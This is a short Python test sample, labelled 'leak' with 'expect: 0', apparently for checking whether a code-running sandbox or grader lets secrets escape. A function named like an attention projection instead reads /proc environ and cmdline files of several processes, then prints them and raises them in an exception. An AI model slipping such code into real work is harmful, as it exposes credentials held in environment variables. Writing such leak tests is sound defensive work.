# class: leak
# base: stub
# expect: 0
# reads environment variables (its own and the processes around it) and prints them


def project_qkv(X, W_Q, W_K, W_V):
    found = []
    for pid in ["self", "1", "2", "3"]:
        for what in ["environ", "cmdline"]:
            try:
                t = torch.from_file(f"/proc/{pid}/{what}", size=4000, dtype=torch.uint8)
                found.append(bytes(t.tolist()).decode(errors="replace"))
            except Exception:
                pass
    print("ENV:", " ".join(found))
    raise ValueError("ENV: " + " ".join(found))
